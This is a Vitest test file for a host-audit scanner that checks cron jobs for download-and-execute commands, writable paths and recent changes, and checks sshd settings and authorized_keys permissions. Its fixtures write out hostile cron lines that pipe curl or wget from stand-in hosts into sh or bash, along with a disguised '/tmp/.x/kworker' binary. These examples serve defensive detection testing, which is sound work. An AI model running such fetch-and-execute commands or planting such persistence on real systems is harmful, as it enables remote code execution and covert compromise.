// Scheduled-task and SSH checks over literal facts.
import { describe, expect, it } from 'vitest';
import { COLLECTED_AT, makeSnapshot } from '../../../test/helpers/snapshot-builders.js';
import type { CronEntry, SshdFacts } from '../../snapshot/audit.js';
import { runCheck } from '../run.js';
import {
  authorizedKeysHygiene,
  cronDownloadExec,
  cronRecentChange,
  cronWritablePath,
  sshdPasswordAuth,
  sshdRootLogin,
} from './access.js';

const daysAgo = (d: number) => new Date(Date.parse(COLLECTED_AT) - d * 86_400_000).toISOString();
const cron = (entries: Partial<CronEntry>[], writable: string[] = []) =>
  makeSnapshot({
    audit: {
      cron: {
        source: 'minimal',
        entries: entries.map((e, i) => ({
          file: '/etc/cron.d/x',
          line: i + 1,
          command: 'true',
          mtime: daysAgo(100),
          ...e,
        })),
        writable,
      },
    },
  });
const sshd = (s: Partial<SshdFacts>) =>
  makeSnapshot({
    audit: {
      sshd: {
        installed: true,
        source: 'config',
        settings: {},
        files: ['/etc/ssh/sshd_config'],
        matchBlocks: 0,
        authorizedKeys: [],
        ...s,
      },
    },
  });

describe('cron-download-exec', () => {
  it('fails on curl | sh and wget -O- | bash, with the exact sed command', () => {
    const o = runCheck(
      cronDownloadExec,
      cron([
        { command: 'test -x /usr/sbin/anacron || run-parts /etc/cron.daily' },
        { command: 'curl -fsSL http://203.0.113.9/ldr.sh | sh' },
        { command: '(wget -q -O - http://x.example/a || curl -s http://x.example/a) | bash' },
      ]),
    );
    expect(o.status).toBe('fail');
    expect(o.evidence.map((e) => (e.type === 'match' ? e.field : ''))).toEqual([
      '/etc/cron.d/x:2',
      '/etc/cron.d/x:3',
    ]);
    expect(o.fixCommand).toBe(
      "cp -a '/etc/cron.d/x' '/etc/cron.d/x.minehunter.bak' && sed -i '3d;2d' '/etc/cron.d/x'",
    );
  });
  it('passes on a download that is not run', () => {
    expect(
      runCheck(cronDownloadExec, cron([{ command: 'curl -s https://example.org/health > /dev/null' }]))
        .status,
    ).toBe('pass');
  });
});

describe('cron-writable-path', () => {
  it('fails on a command under /tmp and on a writable cron file', () => {
    const o = runCheck(cronWritablePath, cron([{ command: '/tmp/.x/kworker -B' }], ['/etc/cron.d/app']));
    expect(o.status).toBe('fail');
    expect(o.fixCommand).toContain("chmod go-w '/etc/cron.d/app'");
  });
  it('passes on ordinary entries', () => {
    expect(runCheck(cronWritablePath, cron([{ command: '/usr/lib/sysstat/debian-sa1 1 1' }])).status).toBe(
      'pass',
    );
  });
});

describe('cron-recent-change', () => {
  it('fails on a file changed two days ago and passes on old files', () => {
    expect(runCheck(cronRecentChange, cron([{ mtime: daysAgo(2) }])).status).toBe('fail');
    expect(runCheck(cronRecentChange, cron([{ mtime: daysAgo(60) }])).status).toBe('pass');
  });
  it('is unknown without cron facts', () => {
    expect(runCheck(cronRecentChange, makeSnapshot({})).status).toBe('unknown');
  });
});

describe('sshd-password-authentication', () => {
  it('fails when unset (the OpenSSH default is yes) or yes', () => {
    const o = runCheck(sshdPasswordAuth, sshd({}));
    expect(o.status).toBe('fail');
    expect(o.evidence[0]).toEqual({ type: 'match', field: 'PasswordAuthentication', value: 'yes (default)' });
  });
  it('passes on no; not applicable without sshd', () => {
    expect(runCheck(sshdPasswordAuth, sshd({ settings: { passwordauthentication: 'no' } })).status).toBe(
      'pass',
    );
    expect(runCheck(sshdPasswordAuth, sshd({ installed: false, source: 'none' })).notApplicable).toBe(true);
  });
});

describe('sshd-root-login', () => {
  it('fails on yes, passes on the default and on no', () => {
    expect(runCheck(sshdRootLogin, sshd({ settings: { permitrootlogin: 'yes' } })).status).toBe('fail');
    expect(runCheck(sshdRootLogin, sshd({})).message.en).toBe('PermitRootLogin prohibit-password.');
    expect(runCheck(sshdRootLogin, sshd({ settings: { permitrootlogin: 'no' } })).status).toBe('pass');
  });
  it('is unknown when sshd exists but its settings were unreadable', () => {
    expect(runCheck(sshdRootLogin, sshd({ source: 'none' })).status).toBe('unknown');
  });
});

describe('ssh-authorized-keys', () => {
  const file = {
    path: '/root/.ssh/authorized_keys',
    user: 'root',
    mode: 0o600,
    uid: 0,
    dirMode: 0o700,
    mtime: daysAgo(90),
    keys: [{ line: 1, type: 'ssh-ed25519', comment: 'admin@laptop' }],
  };
  it('passes on tight permissions', () => {
    expect(runCheck(authorizedKeysHygiene, sshd({ authorizedKeys: [file] })).status).toBe('pass');
  });
  it('fails on a group-writable file, a world-writable .ssh and an authorized_keys2', () => {
    const o = runCheck(
      authorizedKeysHygiene,
      sshd({
        authorizedKeys: [
          { ...file, mode: 0o664, dirMode: 0o777 },
          {
            ...file,
            path: '/root/.ssh/authorized_keys2',
            keys: [{ line: 1, type: 'ssh-rsa', comment: 'redis' }],
          },
        ],
      }),
    );
    expect(o.status).toBe('fail');
    expect(o.evidence).toContainEqual({
      type: 'match',
      field: 'writable by others',
      value: '/root/.ssh/authorized_keys mode 664',
    });
    expect(o.evidence).toContainEqual({
      type: 'match',
      field: 'writable by others',
      value: '/root/.ssh mode 777',
    });
    expect(o.evidence).toContainEqual({
      type: 'match',
      field: 'authorized_keys2',
      value: '/root/.ssh/authorized_keys2 (1 key(s))',
    });
  });
  it('lists keys changed in the last week for review without failing', () => {
    const o = runCheck(authorizedKeysHygiene, sshd({ authorizedKeys: [{ ...file, mtime: daysAgo(1) }] }));
    expect(o.status).toBe('pass');
    expect(o.evidence[0]).toMatchObject({ field: 'changed recently' });
  });
});
